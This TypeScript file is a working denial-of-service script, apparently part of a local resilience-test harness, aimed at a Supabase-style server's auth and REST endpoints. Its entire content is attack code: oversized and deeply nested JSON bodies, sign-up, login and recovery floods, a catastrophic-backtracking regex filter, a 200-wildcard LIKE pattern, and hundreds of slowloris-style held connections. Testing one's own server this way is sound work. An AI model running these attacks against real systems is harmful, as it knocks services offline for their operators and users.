// Attacks a server: `node attacker.ts <target as JSON>`. Ends with its answers when its parent sends a message.
import { randomBytes, randomUUID } from 'node:crypto';
import { once, setMaxListeners } from 'node:events';
import net from 'node:net';
import os from 'node:os';
import { setTimeout as wait } from 'node:timers/promises';
import { type HostileRequest, send } from './send.ts';

/** A server under attack, with the data that every visitor of it learns. */
export interface Target {
  url: string;
  key: string;
  /** The access token of the attacker's own account. */
  token: string;
}

/** How often each answer came, by the attack's name and the status: `closed` when the server ended the connection. */
export type Answers = Record<string, Record<string, number>>;

// An attacker elsewhere takes no time of the server's processor.
os.setPriority(os.constants.priority.PRIORITY_LOW);
const pauseMs = 50;
const { url, key, token } = JSON.parse(process.argv[2] ?? '') as Target;
const answers: Answers = {};
const over = new AbortController();
setMaxListeners(0, over.signal);

const megabyte = 2 ** 20;
const signUp = (email: string) => JSON.stringify({ email, password: 'segredo-123' });
const largeEmail = Buffer.from(signUp('a'.repeat(6 * megabyte)));
const rows = Buffer.from(
  JSON.stringify(
    Array.from({ length: 10_000 }, () => ({ amount: -1, description: 'x'.repeat(50) })),
  ),
);
const endlessPattern = '%25a'.repeat(200);

/** Returns one of the addresses of this machine that the attacker has. The user has another one. */
function anyAddress(): string {
  const [byte = 0] = randomBytes(1);
  return `127.0.1.${1 + (byte % 3)}`;
}

/** Runs an attack again and again, so many times at once. */
function repeat(name: string, concurrency: number, attack: () => Promise<number>): Promise<void>[] {
  const counts = (answers[name] ??= {});
  return Array.from({ length: concurrency }, async () => {
    while (!over.signal.aborted) {
      const answer = (await attack()) || 'closed';
      counts[answer] = (counts[answer] ?? 0) + 1;
      await wait(pauseMs);
    }
  });
}

function ask(name: string, concurrency: number, request: () => HostileRequest): Promise<void>[] {
  return repeat(
    name,
    concurrency,
    async () => (await send(url, anyAddress(), request(), over.signal)).status,
  );
}

/** Keeps a connection open without ever finishing the request. */
function hold(name: string, concurrency: number, start: string): Promise<void>[] {
  const { hostname, port } = new URL(url);
  return repeat(
    name,
    concurrency,
    () =>
      new Promise((resolve) => {
        const localAddress = anyAddress();
        const socket = net.connect({ host: hostname, port: Number(port), localAddress });
        socket.write(start);
        const drip = setInterval(() => socket.write('a'), 5000);
        const end = () => {
          clearInterval(drip);
          socket.destroy();
          resolve(0);
        };
        for (const event of ['close', 'error']) socket.once(event, end);
        over.signal.addEventListener('abort', end);
        socket.resume();
      }),
  );
}

/** Sends a new e-mail address and a password to an endpoint of Auth. */
function askAuth(name: string, endpoint: string): Promise<void>[] {
  return ask(name, 4, () => ({
    path: `/auth/v1/${endpoint}`,
    key,
    body: signUp(`${randomUUID()}@example.com`),
  }));
}

const saveEntry = '/rest/v1/rpc/save_entry';
const transactions = '/rest/v1/transactions';
const head = (line: string) => `${line} HTTP/1.1\r\nHost: a\r\napikey: ${key}\r\n`;
/** Requests that make the server use up memory, time or disk. */
const running = [
  ask('an e-mail address of 6 MB without a key', 2, () => ({
    path: '/auth/v1/signup',
    body: largeEmail,
  })),
  ask('an e-mail address of 6 MB', 2, () => ({ path: '/auth/v1/signup', key, body: largeEmail })),
  ask('60,000 nested brackets without a session', 4, () => ({
    path: saveEntry,
    key,
    body: '['.repeat(60_000),
  })),
  ask('7 MB of nested brackets with a session', 2, () => ({
    path: saveEntry,
    key,
    token,
    body: '[]'.repeat(3.5 * megabyte),
  })),
  ask('10,000 invalid rows with a session', 1, () => ({
    path: transactions,
    key,
    token,
    body: rows,
  })),
  askAuth('a sign-up', 'signup'),
  askAuth('a wrong password', 'token?grant_type=password'),
  askAuth('a request for a recovery link', 'recover'),
  ask('a regular expression', 2, () => ({
    path: `${transactions}?category=imatch.(a%2B)%2B%24`,
    method: 'GET',
    key,
    token,
  })),
  ask('a pattern with 200 wildcards', 2, () => ({
    path: `${transactions}?description=like.${endlessPattern}`,
    method: 'GET',
    key,
    token,
  })),
  ask('a page', 2, () => ({ path: '/', method: 'GET' })),
  hold(
    'a body that never ends',
    200,
    `${head('POST /auth/v1/signup')}Content-Length: 8000\r\n\r\n`,
  ),
  hold('a header that never ends', 1000, 'GET / HTTP/1.1\r\nHost: a\r\nX-A: '),
  hold('50,000 requests ahead', 4, `${head(`GET ${transactions}`)}\r\n`.repeat(50_000)),
  hold(
    '60 KB of a body that never ends',
    300,
    `${head(`POST ${transactions}`)}Content-Length: 64000\r\n\r\n${'a'.repeat(60_000)}`,
  ),
  hold('an idle connection', 700, ''),
].flat();
await once(process, 'message');
over.abort();
await Promise.all(running);
process.send!(answers);
process.disconnect();
